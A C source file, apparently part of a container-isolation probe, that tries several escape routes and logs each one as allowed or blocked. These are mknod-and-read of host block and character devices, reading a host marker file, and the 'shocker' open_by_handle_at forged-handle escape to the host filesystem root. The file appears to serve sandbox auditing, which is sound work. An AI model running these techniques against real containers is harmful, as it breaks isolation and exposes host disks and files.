/* Devices (mknod + open), the host's marker file, open_by_handle_at (shocker). */
#include "probe.h"

static void try_block_dev(unsigned maj, unsigned min, const char *label) {
    char name[128], node[128];
    snprintf(name, sizeof name, "mknod_read_block_%u_%u(%s)", maj, min, label);
    snprintf(node, sizeof node, "/tmp/.probe-blk-%u-%u", maj, min);
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) < 0) { blocked_errno(name, "mknod", errno); return; }
    int fd = open(node, O_RDONLY | O_CLOEXEC);
    int e = errno;
    unlink(node);
    if (fd < 0) {
        if (e == ENXIO || e == ENODEV)
            report(name, "ALLOWED", "mknod and the device-cgroup/nodev gates passed; open failed only because no such disk exists: %s", strerror(e));
        else
            report(name, "BLOCKED", "mknod ok (node in own fs), open: %s (errno %d)", strerror(e), e);
        return;
    }
    char buf[512];
    ssize_t r = read(fd, buf, sizeof buf);
    close(fd);
    if (r > 0) report(name, "ALLOWED", "read %zd bytes of the host disk", r);
    else report(name, "ALLOWED", "opened the host block device (read: %zd, %s)", r, r < 0 ? strerror(errno) : "eof");
}

void try_block_devices(void) {
    try_block_dev(8, 0, "sda");
    FILE *f = fopen("/proc/partitions", "r");
    if (!f) return;
    char line[256];
    int n = 0;
    while (fgets(line, sizeof line, f) && n < 4) {
        unsigned maj, min;
        unsigned long long blocks;
        char dev[64];
        if (sscanf(line, "%u %u %llu %63s", &maj, &min, &blocks, dev) != 4) continue;
        if (maj == 8 && min == 0) continue;
        if (!strncmp(dev, "loop", 4) || !strncmp(dev, "ram", 3)) continue;
        try_block_dev(maj, min, dev);
        n++;
    }
    fclose(f);
}

void try_char_node(const char *name, unsigned maj, unsigned min, const char *existing) {
    /* the existing path first (must be absent or a harmless replacement) */
    if (existing) {
        char n2[128];
        snprintf(n2, sizeof n2, "open_%s", existing + 5);
        struct stat st;
        int fd = open(existing, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) blocked_or_absent(n2, existing, errno);
        else {
            fstat(fd, &st);
            char buf[256];
            ssize_t r = read(fd, buf, sizeof buf);
            close(fd);
            if (S_ISCHR(st.st_mode) && major(st.st_rdev) == maj && minor(st.st_rdev) == min && r > 0)
                report(n2, "ALLOWED", "%s is the real device %u:%u, read %zd bytes", existing, maj, min, r);
            else
                report(n2, "BLOCKED", "%s is %u:%u (not the host's %u:%u), read %zd bytes", existing, major(st.st_rdev), minor(st.st_rdev), maj, min, r);
        }
    }
    char node[128];
    snprintf(node, sizeof node, "/tmp/.probe-chr-%u-%u", maj, min);
    unlink(node);
    if (mknod(node, S_IFCHR | 0600, makedev(maj, min)) < 0) { blocked_errno(name, "mknod", errno); return; }
    int fd = open(node, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    int e = errno;
    unlink(node);
    if (fd < 0) {
        if (e == ENXIO || e == ENODEV)
            report(name, "ALLOWED", "mknod and device gates passed; the kernel lacks the driver: %s", strerror(e));
        else
            report(name, "BLOCKED", "mknod ok, open: %s (errno %d)", strerror(e), e);
        return;
    }
    char buf[4096];
    ssize_t r = read(fd, buf, sizeof buf - 1);
    close(fd);
    report(name, "ALLOWED", "opened host char device %u:%u, read %zd bytes", maj, min, r);
}

/* The host's marker file (spec marker_file) at its host path, from our own root. */
void try_host_marker_file(void) {
    const char *name = "read_host_marker_file";
    const char *m = spec("marker_file");
    if (!m) { report(name, "BLOCKED", "no marker file given"); return; }
    char buf[128] = "";
    ssize_t r = read_file(m, buf, sizeof buf);
    if (r < 0) { report(name, "BLOCKED", "%s: %s (our root is not the host's)", m, strerror(errno)); return; }
    chomp(buf);
    report(name, "ALLOWED", "READ the host marker file %s: '%s'", m, buf);
}

struct fh8 { unsigned int handle_bytes; int handle_type; unsigned char f_handle[128]; };

void try_shocker(void) {
    const char *name = "open_by_handle_at_shocker";
    const char *mp = "/etc/hostname"; /* a bind from the host file system */
    struct fh8 h = {.handle_bytes = 128};
    int mount_id;
    char info[128] = "";
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, mp, &h, &mount_id, 0) == 0)
        snprintf(info, sizeof info, "name_to_handle_at ok (type %d, %u bytes)", h.handle_type, h.handle_bytes);
    else
        snprintf(info, sizeof info, "name_to_handle_at: %s", strerror(errno));
    int mfd = open(mp, O_RDONLY | O_CLOEXEC);
    struct fh8 g = {.handle_bytes = 8, .handle_type = 1}; /* FILEID_INO32_GEN: inode 2, gen 0 */
    g.f_handle[0] = 2;
    int fd = syscall(SYS_open_by_handle_at, mfd, &g, O_RDONLY | O_DIRECTORY);
    int e = errno;
    if (mfd >= 0) close(mfd);
    if (fd < 0) {
        report(name, "BLOCKED", "%s; open_by_handle_at(inode 2): %s (errno %d)", info, strerror(e), e);
        return;
    }
    int out = dir_outside_root(fd);
    char marker[300] = "";
    if (out != 0) read_marker_via(fd, marker, sizeof marker);
    close(fd);
    report(name, out == 0 ? "HARMLESS" : "ALLOWED", "%s; opened inode 2 of the host fs (%s the container root) %s", info, out == 0 ? "inside" : "outside", marker);
}
